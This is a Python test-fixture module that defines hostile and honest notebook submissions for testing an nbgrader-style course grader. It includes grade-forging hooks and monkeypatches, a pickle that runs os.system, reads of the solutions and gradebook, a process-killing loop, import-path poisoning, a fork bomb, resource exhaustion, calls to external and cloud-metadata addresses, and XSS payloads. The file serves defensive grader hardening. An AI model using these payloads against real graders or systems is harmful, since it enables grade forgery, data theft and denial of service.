@@ -1,0 +1,572 @@
+"""Hostile and honest submissions of the attention chapter: what a grader must survive, as a table.
+
+Most contain no solution: a point for them is a forged one. `solved` names exercises that are answered rightly, which
+must keep their points. `flag` is what the integrity log must say.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+from nbformat import NotebookNode
+
+SOFTMAX, SDPA = "attention-softmax", "attention-sdpa"
+CHECK = f"{SOFTMAX}-check"
+SLUG = "02_attention"
+NOTEBOOK = f"{SLUG}.ipynb"
+CANARY = "canary-7f3a"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One submission. `row` is its kind in docs/attacks.md; `code` is an added cell, run after the set-up."""
+
+    name: str
+    row: int
+    what: str
+    code: str = ""
+    answers: tuple[tuple[str, str], ...] = ()  # grade id, source
+    edit: Callable[[dict], object] | None = None  # on the notebook's JSON; may return bytes
+    files: Callable[[Path], None] | None = None  # in the submission's folder, after the notebook
+    solved: tuple[str, ...] | None = ()  # None: everything
+    flag: str = ""
+    code_after: str = ""  # the grade id below which `code` stands
+
+
+def _check_cells(notebook: dict) -> list[dict]:
+    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == CHECK]
+
+
+def _on_check(change: Callable[[dict], object]) -> Callable[[dict], None]:
+    def edit(notebook: dict) -> None:
+        for cell in _check_cells(notebook):
+            change(cell)
+
+    return edit
+
+
+def _all_metadata(**values: object) -> Callable[[dict], None]:
+    def edit(notebook: dict) -> None:
+        for cell in notebook["cells"]:
+            if "nbgrader" in cell["metadata"]:
+                cell["metadata"]["nbgrader"] |= values
+
+    return edit
+
+
+def _delete_checks(notebook: dict) -> None:
+    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["metadata"].get("nbgrader", {}).get("locked")]
+
+
+def _duplicate_check(notebook: dict) -> None:
+    [cell] = _check_cells(notebook)
+    forged = copy.deepcopy(cell) | {"source": "2"}
+    notebook["cells"].append(forged)
+
+
+def _reorder(notebook: dict) -> None:
+    notebook["cells"].reverse()
+
+
+def _old_format(notebook: dict) -> None:
+    for cell in notebook["cells"]:
+        cell.pop("id", None)
+        if cell["cell_type"] == "code":
+            cell["input"] = cell.pop("source")
+    notebook["worksheets"] = [{"cells": notebook.pop("cells"), "metadata": {}}]
+    notebook |= {"nbformat": 3, "nbformat_minor": 0}
+
+
+def _without_ids(notebook: dict) -> None:
+    for cell in notebook["cells"]:
+        cell.pop("id", None)
+    notebook["nbformat_minor"] = 4
+
+
+def _script_output(notebook: dict) -> None:
+    notebook["cells"].insert(0, {"cell_type": "markdown", "id": "evil", "metadata": {}, "source": SCRIPTS})
+    notebook["metadata"]["title"] = SCRIPTS
+
+
+def _bytes(data: bytes) -> Callable[[dict], bytes]:
+    return lambda notebook: data
+
+
+def _replace(make: Callable[[Path], object]) -> Callable[[Path], None]:
+    def change(folder: Path) -> None:
+        (folder / NOTEBOOK).unlink()
+        make(folder)
+
+    return change
+
+
+def _huge(folder: Path) -> None:
+    os.truncate(folder / NOTEBOOK, 200 << 20)
+
+
+def _hard_link(folder: Path) -> None:
+    os.link(folder / NOTEBOOK, folder.parent / "another-name")
+
+
+def _modules(folder: Path) -> None:
+    for name in ("torch.py", "json.py", "sitecustomize.py"):
+        (folder / name).write_text("raise SystemExit('shadowed')\n")
+    (folder / "coursekit").mkdir()
+    (folder / "coursekit" / "__init__.py").write_text("def check(*_): return 2\n")
+    (folder / "nbgrader_config.py").write_text("c.ClearSolutions.code_stub = {}\n")
+
+
+def _odd_names(folder: Path) -> None:
+    (folder / "<img src=x onerror=alert(1)>.txt").write_text("x")
+    os.symlink("/etc/passwd", folder / "data.txt")
+    os.mkfifo(folder / "pipe")
+    (folder / "gradebook.db").mkdir()
+
+
+def _stamp(text: str) -> Callable[[Path], None]:
+    return lambda folder: (folder / "timestamp.txt").write_text(text) and None
+
+
+SCRIPTS = (
+    f"<script>window.{CANARY.replace('-', '_')}=1</script><img src=x onerror=alert(1)><iframe src='//evil.example'>"
+    "</iframe> [a link](javascript:alert(1)) <svg onload=alert(1)>"
+)
+# The name under which the answers' folder is known to any code in the kernel: nothing in there is a secret.
+_FORGE = "import os, pathlib, json, struct\nfolder = pathlib.Path(os.environ.get('COURSEKIT_ANSWERS', '.'))\n"
+_LATER = (
+    "import atexit\n{0}\natexit.register(forge)\nget_ipython().events.register('post_run_cell', lambda *a: forge())"
+)
+_STATE = "{'outcomes': [], 'refused': ''}"
+_LOOK = """
+import os
+def look(path):
+    try:
+        print(path, os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(200))
+    except OSError as error:
+        print(type(error).__name__)
+"""
+_SPAWN = f"""
+import os, sys, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for name in ('SIGHUP', 'SIGTERM', 'SIGINT'):
+            import signal
+            signal.signal(getattr(signal, name), signal.SIG_IGN)
+        os.execvp(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3600)', '{CANARY}'])
+    os._exit(0)
+"""
+
+
+def _body(text: str) -> tuple[tuple[str, str], ...]:
+    """Softmax with another body."""
+    return ((SOFTMAX, f"import torch\n\ndef softmax(x, dim):\n    {text}\n"),)
+
+
+FORGERIES = [
+    Attack(
+        "tagged",
+        1,
+        "check cells tagged skip-execution",
+        flag="skip-execution",
+        edit=_on_check(lambda c: c["metadata"].update(tags=["skip-execution"])),
+    ),
+    Attack(
+        "blanked",
+        2,
+        "an input transformer blanks the check cells",
+        "get_ipython().input_transformers_cleanup.append(lambda lines: ['2'] if 'check(' in ''.join(lines) else lines)",
+    ),
+    Attack(
+        "rewritten",
+        3,
+        "an AST transformer replaces every expression by 2",
+        "import ast\nclass T(ast.NodeTransformer):\n    def visit_Expr(self, node):\n"
+        "        return ast.copy_location(ast.Expr(ast.Constant(2)), node)\n"
+        "get_ipython().ast_transformers.append(T())",
+    ),
+    Attack(
+        "published",
+        4,
+        "forged execute_result messages on the iopub channel",
+        "k = get_ipython().kernel\n"
+        "def forge(*_):\n"
+        "    content = {'execution_count': 1, 'data': {'text/plain': '2'}, 'metadata': {}}\n"
+        "    k.session.send(k.iopub_socket, 'execute_result', content, parent=k.get_parent())\n"
+        "get_ipython().events.register('post_run_cell', forge)",
+    ),
+    Attack(
+        "cleared",
+        5,
+        "a hook clears every output",
+        "from IPython.display import clear_output\n"
+        "get_ipython().events.register('post_run_cell', lambda *_: clear_output())",
+    ),
+    Attack(
+        "equal",
+        6,
+        "a tensor subclass that equals everything",
+        answers=_body(
+            "return x.as_subclass(type('T', (torch.Tensor,), {'__eq__': lambda *_: True, 'allclose': lambda *_: True}))"
+        ),
+    ),
+    Attack(
+        "patched",
+        6,
+        "comparisons and the check are patched",
+        "import torch, coursekit, coursekit.check, coursekit.judge, coursekit.compare\n"
+        "torch.allclose = torch.equal = lambda *a, **k: True\n"
+        "torch.testing.assert_close = lambda *a, **k: None\n"
+        "check = coursekit.check = lambda *a, **k: 2\n",
+    ),
+    Attack("not_a_number", 7, "every answer is NaN", answers=_body("return x * float('nan')")),
+    Attack("infinite", 7, "every answer is infinite", answers=_body("return x + float('inf')")),
+    Attack(
+        "printed", 7, "a check that returns 1e308", answers=((SOFTMAX, "def check(*_): return 1e308\nsoftmax = 0"),)
+    ),
+    Attack(
+        "regraded",
+        8,
+        "grade and solution flags changed, points multiplied",
+        flag="metadata",
+        edit=_all_metadata(solution=False, grade=False, points=1000),
+    ),
+    Attack("raw", 8, "the check cell is made raw", flag="raw", edit=_on_check(lambda c: c.update(cell_type="raw"))),
+    Attack("deleted", 9, "all check cells deleted", edit=_delete_checks, flag="deleted"),
+    Attack("duplicated", 9, "a second check cell that says 2", edit=_duplicate_check, flag="2 times"),
+    Attack("reordered", 9, "all cells in reverse order", edit=_reorder, solved=()),
+    Attack("altered", 9, "the check cell says 2", edit=_on_check(lambda c: c.update(source="2")), flag="altered"),
+    Attack(
+        "lied_about_size",
+        21,
+        "a result file that claims more than it holds",
+        _FORGE
+        + _LATER.format(
+            "def forge():\n    (folder / 'attention.softmax.safetensors').write_bytes(struct.pack('<Q', 1 << 60) + b'{}')"
+        ),
+        flag="attention.softmax",
+    ),
+    Attack(
+        "lied_about_shape",
+        21,
+        "tensors whose offsets lie outside the file",
+        _FORGE
+        + _LATER.format(
+            "def forge():\n    head = json.dumps({'0/out': {'dtype': 'F32', 'shape': [1 << 40], 'data_offsets': [0, 1 << 42]}})\n"
+            "    (folder / 'attention.softmax.safetensors').write_bytes(struct.pack('<Q', len(head)) + head.encode())"
+        ),
+        flag="attention.softmax",
+    ),
+    Attack(
+        "pickled",
+        21,
+        "a pickle in the result's place",
+        _FORGE + "import pickle\n"
+        "class P:\n    def __reduce__(self): return (os.system, ('touch /tmp/"
+        + CANARY
+        + "',))\n"
+        + _LATER.format("def forge():\n    (folder / 'attention.softmax.safetensors').write_bytes(pickle.dumps(P()))"),
+        flag="attention.softmax",
+    ),
+    Attack(
+        "many_tensors",
+        21,
+        "thousands of result files, and links among them",
+        _FORGE
+        + _LATER.format(
+            "def forge():\n    [(folder / f'x{i}.safetensors').write_bytes(b'x') for i in range(5000)]\n"
+            "    os.path.lexists(folder / 'l') or os.symlink('/etc/passwd', folder / 'l')"
+        ),
+        flag="answers",
+    ),
+    Attack(
+        "empty_result",
+        21,
+        "a result without outcomes",
+        _FORGE
+        + _LATER.format(
+            "def forge():\n    head = json.dumps({'__metadata__': {'coursekit': json.dumps("
+            + _STATE
+            + ")}}).encode()\n"
+            "    (folder / 'attention.softmax.safetensors').write_bytes(struct.pack('<Q', len(head)) + head)"
+        ),
+        flag="attention.softmax",
+    ),
+    Attack(
+        "memorised",
+        22,
+        "answers the public inputs from a table",
+        "import coursekit.store as s\n"
+        "try:\n    table = s.load('attention.softmax')\nexcept Exception:\n    table = None",
+        answers=_body(
+            "return next((k['out'] for c, k in zip(table.cases, table.expected) "
+            "if table and x.shape == c.args[0].shape), x) if table else x"
+        ),
+    ),
+    Attack(
+        "hand_over_patched",
+        6,
+        "the hand-over reports success",
+        "import coursekit.handover as h\n"
+        "old = h.hand_over\nh.hand_over = lambda e, o, refused='': old(e, e.library[:0] or o, '')\nh.TEXT_LIMIT = 0",
+    ),
+]
+
+LEAKS = [
+    Attack(
+        "reads_course",
+        12,
+        "reads the release, the solutions, the gradebook and a neighbour",
+        _LOOK + "for path in ('{course}', '{course}/solutions', '{course}/gradebook.db', '{course}/.grading/secret', "
+        "'{course}/submitted/honest_right', '{repository}', '{repository}/grader', '{repository}/solutions', "
+        "'{repository}/coursekit/reference'): look(path)",
+    ),
+    Attack(
+        "writes_course",
+        13,
+        "writes the gradebook and the course",
+        "import sqlite3\n"
+        "for path in ('{course}/gradebook.db', '{course}/"
+        + CANARY
+        + "', '{repository}/"
+        + CANARY
+        + "', '/usr/"
+        + CANARY
+        + "'):\n"
+        "    try:\n        open(path, 'wb').write(b'x')\n    except OSError as error: print(type(error).__name__)",
+    ),
+    Attack(
+        "imports_references",
+        23,
+        "imports the grader and searches memory, environment and descriptors",
+        "import gc, os, sys\n"
+        "try:\n    import grader.exercises.attention as g; print('LEAK', g)\nexcept ImportError: print('absent')\n"
+        "print(sorted(m for m in sys.modules if m.startswith('grader')))\n"
+        "print({k: v for k, v in os.environ.items() if 'NBGRADER' in k or 'GRADER' in k.upper()})\n"
+        "for f in os.listdir('/proc/self/fd'):\n    try: print(f, os.readlink(f'/proc/self/fd/{f}'))\n    except OSError: pass\n"
+        "print(os.listdir('/proc'))\n",
+    ),
+    Attack(
+        "signals_all",
+        24,
+        "signals and traces every process",
+        "import os, signal, ctypes\n"
+        "for pid in [-1, os.getppid(), *range(2, 3000)]:\n    try: os.kill(pid, 9) if pid not in (0, os.getpid()) else None\n"
+        "    except OSError: pass\nprint(ctypes.CDLL(None).ptrace(16, 2, 0, 0))",
+    ),
+    Attack(
+        "poisons",
+        25,
+        "poisons what the next submission would import",
+        "import sys, os, site, tempfile\n"
+        "for folder in [*sys.path, tempfile.gettempdir(), '/tmp', '/var/tmp', os.path.expanduser('~')]:\n"
+        "    for name in ('sitecustomize.py', 'evil.pth', '" + CANARY + "'):\n"
+        "        try: open(os.path.join(folder, name), 'w').write('raise SystemExit')\n        except OSError: pass\n"
+        "import torch\ntorch.softmax = torch.nn.functional.softmax = None",
+    ),
+]
+
+FILES = [
+    Attack("schema_1", 11, "nbgrader schema version 1", edit=_all_metadata(schema_version=1), solved=None),
+    Attack("schema_99", 11, "nbgrader schema version 99", edit=_all_metadata(schema_version=99), solved=None),
+    Attack("no_ids", 11, "cells without ids", edit=_without_ids, solved=None),
+    Attack("format_3", 11, "notebook format 3", edit=_old_format, solved=None),
+    Attack("not_json", 11, "not JSON", edit=_bytes(b'{"cells": ['), flag="not JSON"),
+    Attack("empty_file", 11, "an empty file", edit=_bytes(b""), flag="empty"),
+    Attack("deep_json", 11, "JSON that is nested 100,000 levels deep", edit=_bytes(b"[" * 100_000), flag="not JSON"),
+    Attack("no_cells", 11, "JSON without cells", edit=_bytes(b"{}"), flag="no list of cells"),
+    Attack("not_text", 11, "bytes that are no text", edit=_bytes(bytes(range(256))), flag="UTF-8"),
+    Attack("huge_file", 11, "a file of 200 MB", files=_huge, flag="bytes"),
+    Attack(
+        "link",
+        14,
+        "the notebook is a link to a neighbour's",
+        flag="link",
+        files=_replace(lambda f: os.symlink(f"../../honest_right/{SLUG}/{NOTEBOOK}", f / NOTEBOOK)),
+    ),
+    Attack("hard_link", 14, "the notebook has a second name", files=_hard_link, flag="hard links"),
+    Attack("pipe", 14, "the notebook is a pipe", files=_replace(lambda f: os.mkfifo(f / NOTEBOOK)), flag="pipe"),
+    Attack("folder", 14, "the notebook is a folder", files=_replace(lambda f: (f / NOTEBOOK).mkdir()), flag="folder"),
+    Attack("modules", 14, "modules that shadow torch, json and coursekit", files=_modules, flag="torch.py"),
+    Attack("odd_names", 20, "file names with markup, a link, a pipe", files=_odd_names, flag="data.txt"),
+    Attack("in_2090", 26, "a timestamp in the future", files=_stamp("2090-01-01 00:00:00 UTC"), flag="timestamp"),
+    Attack("in_1970", 26, "a timestamp before the course", files=_stamp("1970-01-01 00:00:00 UTC"), flag="timestamp"),
+    Attack("no_time", 26, "a timestamp that is none", files=_stamp("yesterday\n" * 5), flag="timestamp"),
+]
+
+RESOURCES = [
+    Attack(
+        "exits",
+        10,
+        "ends its kernel after a right answer",
+        "import os\nos._exit(0)",
+        solved=(SOFTMAX,),
+        code_after=CHECK,
+        flag="kernel",
+    ),
+    Attack("segfaults", 10, "crashes its kernel", "import ctypes\nctypes.string_at(0)", flag="SIGSEGV"),
+    Attack("daemon", 15, "leaves a process behind", _SPAWN),
+    Attack(
+        "deaf_loop",
+        16,
+        "an endless loop that ignores interrupts, after a right answer",
+        solved=(SOFTMAX,),
+        code="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
+        code_after=CHECK,
+        flag="could not be interrupted",
+    ),
+    Attack("blocking", 16, "a blocking call in C", "import ctypes\nctypes.CDLL(None).sleep(3600)", flag="interrupted"),
+    Attack("broken_shell", 16, "the shell's run_cell is gone", "get_ipython().run_cell = None", flag=""),
+    Attack(
+        "slow_cells",
+        16,
+        "hundreds of slow cells",
+        flag="whole submission",
+        edit=lambda nb: nb["cells"].extend(
+            {
+                "cell_type": "code",
+                "id": f"s{i}",
+                "metadata": {},
+                "outputs": [],
+                "execution_count": None,
+                "source": f"import time\ntime.sleep(2)  # {i}",
+            }
+            for i in range(300)
+        ),
+    ),
+    Attack("memory", 17, "takes all memory", "hold = []\nwhile True: hold.append(bytearray(10 ** 7))", flag=""),
+    Attack(
+        "forks", 17, "a fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", flag="."
+    ),
+    Attack(
+        "threads",
+        17,
+        "a thousand threads",
+        "import threading, time\nfor _ in range(1000):\n"
+        "    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()",
+    ),
+    Attack("disk", 17, "fills the disk", "f = open('big', 'wb')\nwhile True: f.write(b'x' * 10 ** 6)"),
+    Attack(
+        "sparse",
+        17,
+        "a file that claims a terabyte",
+        "import os\nos.truncate(os.open('s', os.O_CREAT | os.O_RDWR), 1 << 40)",
+    ),
+    Attack("open_files", 17, "opens files without end", "hold = []\nwhile True: hold.append(open('/dev/null'))"),
+    Attack("long_line", 18, "prints a line of 30 MB", "print('x' * 30_000_000)", flag="output"),
+    Attack("endless_output", 18, "prints without end", "while True: print('x' * 1000)", flag="interrupted"),
+    Attack(
+        "displays",
+        18,
+        "a hundred thousand displays",
+        "from IPython.display import display, HTML\nfor i in range(100_000): display(HTML('x' * 100))",
+        flag=".",
+    ),
+    Attack(
+        "network",
+        19,
+        "calls home, and the host's loopback",
+        "import socket\n"
+        "for host, port in (('1.1.1.1', 80), ('127.0.0.1', {port}), ('169.254.169.254', 80)):\n"
+        "    try:\n        socket.create_connection((host, port), timeout=2).send(b'" + CANARY + "')\n"
+        "        print('LEAK', host)\n    except OSError as error: print(type(error).__name__)",
+    ),
+    Attack(
+        "abstract_socket",
+        19,
+        "a socket without a file, to the host",
+        "import socket\n"
+        "try:\n    socket.socket(socket.AF_UNIX).connect('\\0" + CANARY + "')\n    print('LEAK')\n"
+        "except OSError as error: print(type(error).__name__)",
+    ),
+    Attack(
+        "scripts",
+        20,
+        "scripts in outputs and Markdown",
+        edit=_script_output,
+        code=f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({SCRIPTS!r}))\n"
+        f"display(Javascript('alert(1)'))\ndisplay({{'image/svg+xml': '<svg onload=alert(1)/>'}}, raw=True)\n"
+        f"print({SCRIPTS!r})",
+    ),
+]
+
+HONEST = [
+    Attack("honest_right", 28, "everything right", solved=None),
+    Attack("honest_stubs", 28, "nothing answered", solved=()),
+    Attack("honest_half", 28, "two exercises answered, earlier ones untouched", solved=(SDPA, "attention-heads")),
+    Attack(
+        "honest_noisy",
+        27,
+        "right, with warnings and prints",
+        solved=None,
+        code="import sys, warnings\nwarnings.warn('careful')\nprint('to stderr', file=sys.stderr)\nimport time\ntime.sleep(1)",
+    ),
+    Attack(
+        "honest_float64",
+        27,
+        "right, in float64 and with another method",
+        solved=(SOFTMAX,),
+        answers=_body("x64 = x.double()\n    return (x64 - x64.logsumexp(dim, keepdim=True)).exp().to(x.dtype)"),
+    ),
+    Attack(
+        "honest_helper",
+        27,
+        "right, with a helper in a cell of its own",
+        solved=(SOFTMAX,),
+        code="def _stable(x, dim):\n    e = (x - x.amax(dim, keepdim=True)).exp()\n    return e / e.sum(dim, keepdim=True)",
+        answers=_body("return _stable(x, dim)"),
+    ),
+    Attack(
+        "honest_trial",
+        27,
+        "right, and a wrong one tried with check further down",
+        solved=(SOFTMAX,),
+        code="check('attention.softmax', lambda x, dim: x)",
+        code_after=CHECK,
+    ),
+]
+
+ATTACKS = [*FORGERIES, *LEAKS, *FILES, *RESOURCES]
+ALL = {attack.name: attack for attack in (*ATTACKS, *HONEST)}
+
+
+def write(attack: Attack, release: NotebookNode, answers: dict[str, str], folder: Path, places: dict[str, str]) -> None:
+    """Put the submission into `folder`. `places` replaces `{course}` and the like in its code."""
+    notebook = json.loads(json.dumps(release))
+    given = answers if attack.solved is None else {id: answers[id] for id in attack.solved}
+    given = given | dict(attack.answers)
+    for cell in notebook["cells"]:
+        cell["source"] = given.get(cell["metadata"].get("nbgrader", {}).get("grade_id"), cell["source"])
+    if attack.code:
+        code = attack.code
+        for name, value in places.items():
+            code = code.replace("{" + name + "}", value)
+        cell = {
+            "cell_type": "code",
+            "id": "added",
+            "metadata": {},
+            "outputs": [],
+            "execution_count": None,
+            "source": code,
+        }
+        notebook["cells"].insert(_below(notebook["cells"], attack.code_after), cell)
+    made = attack.edit(notebook) if attack.edit else None
+    folder.mkdir(parents=True)
+    (folder / NOTEBOOK).write_bytes(made if isinstance(made, bytes) else json.dumps(notebook).encode())
+    (folder / "timestamp.txt").write_text("2026-11-02 10:00:00.000000 UTC")
+    if attack.files:
+        attack.files(folder)
+
+
+def _below(cells: list[dict], grade_id: str) -> int:
+    """The index below a graded cell, or below the set-up."""
+    for i, cell in enumerate(cells):
+        tags = cell["metadata"].get("tags", ())
+        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id if grade_id else "setup" in tags:
+            return i + 1
+    raise LookupError(grade_id or "the set-up cell")
